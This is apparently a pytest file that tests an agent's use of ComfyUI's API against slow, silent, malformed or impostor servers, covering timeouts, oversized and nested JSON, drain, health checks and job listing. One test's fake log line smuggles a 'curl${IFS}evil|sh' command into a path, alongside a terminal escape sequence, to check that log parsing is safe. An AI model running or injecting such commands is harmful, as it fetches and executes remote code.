"""The agent's use of ComfyUI's API, against real sockets that are slow, silent, hostile, or not ComfyUI at all."""

from __future__ import annotations

import json
import socket
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from agent import api
from agent.api import Endpoint
from agent.files import AgentError
from agent.look import jobs, node_types, status
from agent.schema.facts import Service
from agent.schema.live import RunningJob
from agent.schema.manifest import Gate, ReleaseManifest
from agent.serve import health
from tests.servers import BUSY, IDLE, RUNNING, STATS, at, layout, listening, serving


@pytest.mark.parametrize(
    ("argv", "addresses", "port", "tls"),
    [
        ([], ("127.0.0.1",), 8188, False),
        (["--listen", "0.0.0.0", "--port", "81"], ("127.0.0.1",), 81, False),
        (["--listen", "::"], ("::1",), 8188, False),
        (["--listen", "0.0.0.0,::"], ("127.0.0.1", "::1"), 8188, False),
        (["--listen", "127.0.0.1,192.168.1.5"], ("127.0.0.1", "192.168.1.5"), 8188, False),
        (["--listen", "--port=90"], ("127.0.0.1", "::1"), 90, False),
        (["--port", "1", "--port", "2"], ("127.0.0.1",), 2, False),
        (["--tls-keyfile", "k", "--tls-certfile", "c"], ("127.0.0.1",), 8188, True),
        (["--tls-keyfile", "k"], ("127.0.0.1",), 8188, False),  # ComfyUI needs both
    ],
)
def test_the_endpoint_of_a_command_line(argv: list[str], addresses: tuple[str, ...], port: int, tls: bool) -> None:
    assert Endpoint.of(argv) == Endpoint(addresses, port, tls)


def test_endpoint_comes_from_the_release(tmp_path: Path) -> None:
    """hosts.toml may already have another port during a rollback, drain or revert."""
    with serving({"/queue": IDLE}) as port:
        released = layout(tmp_path, 1, ["python", "main.py", "--listen", "127.0.0.1", "--port", str(port)])
        assert api.queue(api.endpoint(released)) == ([], [])
    assert api.endpoint(layout(tmp_path / "empty", 7)) == at(7, "127.0.0.1", "::1")


@pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
def test_responding_address_is_used(address: str) -> None:
    with serving({"/queue": IDLE}, address) as port:
        assert api.queue(at(port, "127.0.0.1", "::1")) == ([], [])
        assert api.accepts_connections(at(port, "127.0.0.1", "::1"))


@pytest.mark.process
def test_tls_endpoint_uses_https(tmp_path: Path) -> None:
    words = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=spark.example", "-days", "2"]
    words += ["-keyout", str(tmp_path / "key.pem"), "-out", str(tmp_path / "cert.pem")]
    subprocess.run(words, check=True, capture_output=True)
    with serving({"/queue": IDLE}, tls=tmp_path) as port:
        place = Endpoint.of(["--port", str(port), "--tls-keyfile", "k", "--tls-certfile", "c"])
        assert api.queue(place) == ([], [])


def endless_headers(connection: socket.socket) -> None:
    connection.sendall(b"HTTP/1.1 200 OK\r\n")
    while True:
        connection.sendall(b"X: y\r\n")
        time.sleep(0.1)


def trickle(connection: socket.socket) -> None:
    connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
    while True:
        connection.sendall(b" ")
        time.sleep(0.1)


@pytest.mark.parametrize("talk", [lambda _: None, endless_headers, trickle], ids=["silent", "headers", "trickles"])
def test_whole_answer_has_one_deadline(talk: Callable[[socket.socket], None]) -> None:
    with listening(talk) as port:
        started = time.monotonic()
        with pytest.raises(TimeoutError):
            api.ask(at(port), "/queue", seconds=0.5)
        assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    "answer",
    [
        "http://127.0.0.1:1/queue",
        b"<html>",
        b"[" * 200_000,
        b'"' + b"x" * 3_000_000 + b'"',
        {"error": "unauthorized"},
        [],
        None,
        {"queue_running": None, "queue_pending": []},
        {"queue_running": [7], "queue_pending": []},
        {"queue_running": [[1]], "queue_pending": []},
    ],
    ids=["redirect", "html", "nested", "long", "object", "list", "404", "null", "number", "short"],
)
def test_invalid_queue_is_an_error(answer: object, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(api.ask, "__defaults__", (None, 5, 2_000_000))
    with serving({"/queue": answer}) as port, pytest.raises(ValueError):
        api.queue(at(port))


@pytest.mark.parametrize(
    "queue",
    [
        b'{"queue_running":[],"queue_pending":[' + b'[1,"x"],' * 1_900_000 + b"[]]}",
        b'{"queue_running":[],"queue_pending":[' + b"{}," * 5_000_000 + b"{}]}",
        b'{"queue_running":[],"queue_pending":["' + b"x" * api.LIMIT + b'"]}',
    ],
    ids=["jobs", "objects", "text"],
)
def test_long_queue_is_counted_only(queue: bytes) -> None:
    begun = time.process_time()
    with serving({"/queue": queue, "/prompt": {"exec_info": {"queue_remaining": 7}}}) as port:
        running, waiting = api.queue(at(port), 20)
    assert (list(running), list(waiting), running.total, waiting.total) == ([], [], 0, 7)
    assert time.process_time() - begun < 10


def test_many_jobs_are_shortened_to_the_first_and_a_count(tmp_path: Path) -> None:
    many = [[number, "x" * 500, {}, {}] for number in range(5000, 0, -1)]
    answers = {"/queue": {"queue_running": many, "queue_pending": many}, "/history": {}, "/system_stats": STATS}
    with serving(answers) as port:
        place = layout(tmp_path, port)
        told = jobs.jobs(place, 10)
        assert [each.id for each in told[-2:]] == ["x" * 200 + "…", "+4900"]
        assert len(told) == 201
        seen = status._comfyui(place)
        assert (len(seen.running), seen.pending) == (100, 5000)
        with pytest.raises(AgentError) as raised:
            health.drain(at(port), 0.1, False, lambda _: None)
    assert "5000 running (xxx" in raised.value.report["what"]
    assert len(raised.value.report["what"]) < 1500


def test_long_history_is_requested_in_part(tmp_path: Path) -> None:
    asked: list[str] = []

    def talk(connection: socket.socket) -> None:
        path = connection.recv(65536).split()[1].decode()
        asked.append(path)
        ended = {f"job {number}": {"prompt": None, "status": None} for number in range(5)}
        answer = (
            b"x" * (api.LIMIT + 1) if path.endswith("=100") else json.dumps(ended if "hist" in path else IDLE).encode()
        )
        connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + answer)
        connection.close()

    with listening(talk) as port:
        assert len(jobs.jobs(layout(tmp_path, port), 100)) == 5
    assert asked == ["/history?max_items=100", "/history?max_items=12", "/queue"]


@pytest.mark.parametrize("depth", range(900, 1000, 7))
def test_deeply_nested_json_is_rejected(tmp_path: Path, depth: int) -> None:
    nested = b"[" * depth + b"]" * depth
    answer = (
        b'{"queue_running":[[1,'
        + nested
        + b']],"queue_pending":[],"system":{"comfyui_version":'
        + nested
        + b'},"devices":[]}'
    )
    with serving(dict.fromkeys(("/queue", "/history", "/system_stats"), answer)) as port:
        status._comfyui(layout(tmp_path, port))
        with pytest.raises(AgentError):
            health.drain(at(port), 0.01, False, lambda _: None)


# --- drain ---------------------------------------------------------------------------------------------------------


def test_refused_connection_means_not_running() -> None:
    with socket.create_server(("127.0.0.1", 0)) as closed:
        port = closed.getsockname()[1]
    health.drain(at(port, "127.0.0.1", "::1"), 0, False, lambda _: None)


@pytest.mark.parametrize(("answers", "delay"), [({"/queue": IDLE}, 2), ({"/queue": b"busy"}, 0), ({}, 0)])
def test_slow_or_invalid_answer_counts_as_busy(
    answers: dict[str, Any], delay: float, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(api.queue, "__defaults__", (0.2,))
    with serving(answers, delay=delay) as port, pytest.raises(AgentError) as raised:
        health.drain(at(port), 0.2, False, lambda _: None)
    assert raised.value.report["kind"] == "drain"
    assert "its jobs are unknown" in raised.value.report["what"]


def test_drain_waits_for_a_hanging_comfyui() -> None:
    answers = iter((b"", json.dumps(BUSY).encode(), json.dumps(IDLE).encode()))

    def talk(connection: socket.socket) -> None:
        connection.recv(65536)
        connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + next(answers))
        connection.close()

    notes: list[str] = []
    with listening(talk) as port:
        health.drain(at(port), 20, False, notes.append)
    unknown, busy = notes
    assert "its jobs are unknown" in unknown
    assert busy == "waiting for jobs: 1 running (a-job), 0 waiting"


def test_force_sends_no_request() -> None:
    asked: list[socket.socket] = []
    with listening(asked.append) as port:
        health.drain(at(port), 60, True, lambda _: None)
    assert asked == []


# --- jobs and status -----------------------------------------------------------------------------------------------


def test_jobs_that_nodes_queued_in_their_own_way_are_listed(tmp_path: Path) -> None:
    """Without a time, with an invalid number, without a workflow in the history."""
    queue = {
        "queue_running": [["x", "odd", {}]],
        "queue_pending": [[2, "second", {"1": {}}, None], [1, "first", None, {}]],
    }
    history = {"ended": {"prompt": None, "status": None}}
    with serving({"/queue": queue, "/history": history, "/system_stats": STATS}) as port:
        place = layout(tmp_path, port)
        assert [(each.id, each.status) for each in jobs.jobs(place, 10)] == [
            ("ended", "unknown"), ("odd", "running"), ("first", "pending"), ("second", "pending"),
        ]  # fmt: skip
        seen = status._comfyui(place)
    assert (seen.state, seen.pending, seen.running) == ("answers", 2, (RunningJob("odd", 0, None),))


@pytest.mark.parametrize("answer", [{"error": "unauthorized"}, [], 7, {"x": 1}, b"<html>"])
def test_another_program_on_the_port_is_reported(tmp_path: Path, answer: object) -> None:
    answers = dict.fromkeys(("/queue", "/history", "/system_stats"), answer)
    with serving(answers) as port:
        with pytest.raises(AgentError) as raised:
            jobs.jobs(layout(tmp_path, port), 10)
        assert status._comfyui(layout(tmp_path, port)).state == "silent"
    assert raised.value.report["what"] == f"the program at port {port} does not answer as ComfyUI does"


class Runs:
    """A running process."""

    def status(self) -> Service:
        return RUNNING

    def log(self, _: int) -> list[str]:
        return []


def test_health_check_reports_a_foreign_answer() -> None:
    with serving({"/system_stats": {"system": 1}}) as port, pytest.raises(AgentError) as raised:
        health.first_answer(at(port), Runs(), 0.1)
    assert "the answer to /system_stats is not in ComfyUI's format" in raised.value.report["cause"]


def test_comfyuis_texts_are_shortened_in_messages() -> None:
    release = ReleaseManifest(code="/app", gate=Gate(seconds=1, version="0.30.0"))
    told = {"system": {"comfyui_version": "0.30.0", "pytorch_version": "", "argv": ["x" * 300] * 3000}, "devices": []}
    with (
        serving({"/system_stats": told}) as port,
        pytest.raises(AgentError, match="command line differs from the") as raised,
    ):
        health.prove(at(port), Runs(), release, ["python", "/app/main.py"], lambda _: None, lambda: None)
    assert len(str(raised.value.report)) < 5000


def test_failed_nodes_are_found_within_the_time_limit() -> None:
    lines = [f"   0.0 seconds (IMPORT FAILED): /x/n{number}" for number in range(20_000)]
    lines += ["(IMPORT FAILED): /" * 5000, "0.1 seconds (IMPORT FAILED): /x/a;curl${IFS}evil|sh #", "filler"] * 100
    lines += ["Cannot import /x/n7 module for custom nodes: no \x1b[2Jway" + "y" * 5000]
    begun = time.process_time()
    failed = health._failed_nodes(lines, {"n7", "n9", "fine"})
    assert time.process_time() - begun < 5
    assert failed.keys() == {"n7", "n9"}
    assert failed["n7"].startswith("no  [2Jway")
    assert len(failed["n7"]) < 600


DONE = {"outputs": {"2": {"images": [{"filename": "f", "subfolder": "s", "type": "output"}]}}}
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(8) + b"\0\0\0\x40\0\0\0\x40"


def test_a_busy_comfyui_that_answers_late_is_healthy(monkeypatch: pytest.MonkeyPatch) -> None:
    """A node that computes during import holds Python's GIL for longer than any other request may take."""
    monkeypatch.setattr(api.ask, "__defaults__", (None, 0.2, api.LIMIT))
    answers = {"/prompt": {"prompt_id": "1"}, "/history/1": {"1": DONE}, "/view": PICTURE}
    with serving(answers, late=0.5) as port:
        health._picture(at(port), Runs(), "first", lambda: None, lambda _: None)


def test_a_second_workflow_that_hangs_is_unhealthy(monkeypatch: pytest.MonkeyPatch) -> None:
    """comfy-aimdo 0.4.11 reportedly passes the first workflow and hangs in the second (ComfyUI#15269)."""
    monkeypatch.setattr(health, "WORKFLOW_SECONDS", 0.5)
    monkeypatch.setattr(health, "LOG_SECONDS", 0.1)
    pictures: list[str] = []

    def ask(_: Endpoint, path: str, body: object = None, **__: object) -> Any:
        if path == "/prompt":
            pictures.append(json.dumps(body))
            return {"prompt_id": str(len(pictures))}
        return {"1": DONE} if path == "/history/1" else {} if path.startswith("/history") else PICTURE

    monkeypatch.setattr(health, "ask", ask)
    monkeypatch.setattr(health, "first_answer", lambda *_: _stats(STATS))
    release = ReleaseManifest(code="/app", gate=Gate(seconds=1, version="0.30.0", torch="2.11.0"))
    with pytest.raises(AgentError) as raised:
        health.prove(at(1), Runs(), release, ["python", "/app/main.py"], lambda _: None, lambda: None)
    assert raised.value.report["what"] == "the second workflow without models did not end within 0.5 s"
    assert len(set(pictures)) == 2


def _stats(answer: Any) -> dict[str, Any]:
    system = answer["system"]
    return {"version": system["comfyui_version"], "torch": system["pytorch_version"], "argv": ["/app/main.py"],
            "devices": answer["devices"]}  # fmt: skip


# --- node types and saved workflows -----------------------------------------------------------------------------------

TYPES = {"A": {"input": {"required": {}}, "output": ["IMAGE"], "python_module": "nodes", "description": "x" * 9999}}


def test_node_types_and_saved_workflows(tmp_path: Path) -> None:
    saved = {
        "/object_info": TYPES,
        "/userdata": ["a.json", "b c/d.json", "notes.txt", "bad.json", "large.json", "gone.json"],
        "/userdata/workflows%2Fa.json": {"nodes": []},
        "/userdata/workflows%2Fb%20c%2Fd.json": {"1": {}},
        "/userdata/workflows%2Fbad.json": b"{",
        "/userdata/workflows%2Flarge.json": b'"' + b"x" * node_types.EACH + b'"',
    }
    with serving(saved) as port:
        told = node_types.node_types(layout(tmp_path, port), workflows=True)
    assert told.types == {"A": {"input": {"required": {}}, "output": ["IMAGE"], "python_module": "nodes"}}
    assert told.workflows == {
        "a.json": {"nodes": []},
        "b c/d.json": {"1": {}},
        **dict.fromkeys(("bad.json", "large.json", "gone.json")),
    }


def test_a_comfyui_without_saved_workflows(tmp_path: Path) -> None:
    with serving({"/object_info": TYPES}) as port:
        assert node_types.node_types(layout(tmp_path, port), workflows=True).workflows == {}
        assert node_types.node_types(layout(tmp_path, port), workflows=False).workflows == {}


@pytest.mark.parametrize(
    "answers",
    [
        *({"/object_info": each} for each in (None, [1], {"A": 1}, b"{", {"A": None})),
        {"/object_info": TYPES, "/userdata": [1]},
    ],
)
def test_other_answers_than_comfyuis_are_refused(tmp_path: Path, answers: dict[str, Any]) -> None:
    with serving(answers) as port, pytest.raises(AgentError) as raised:
        node_types.node_types(layout(tmp_path, port), workflows=True)
    assert raised.value.report["kind"] == "silent"


@pytest.mark.parametrize(
    ("answer", "found"),
    [
        (
            {"Old": [{"new_node_id": "A"}, {"new_node_id": "B"}], "Lost": [{"new_node_id": "C"}], "None": []},
            {"Old": "A"},
        ),
        (None, {}),
        ([1], {}),
        ({"Old": [{}]}, {}),
    ],
)
def test_replacements_are_those_that_comfyui_makes(answer: object, found: object) -> None:
    with serving({"/node_replacements": answer}) as port:
        assert health._replacements(at(port), {"A": "nodes", "B": "nodes"}) == found
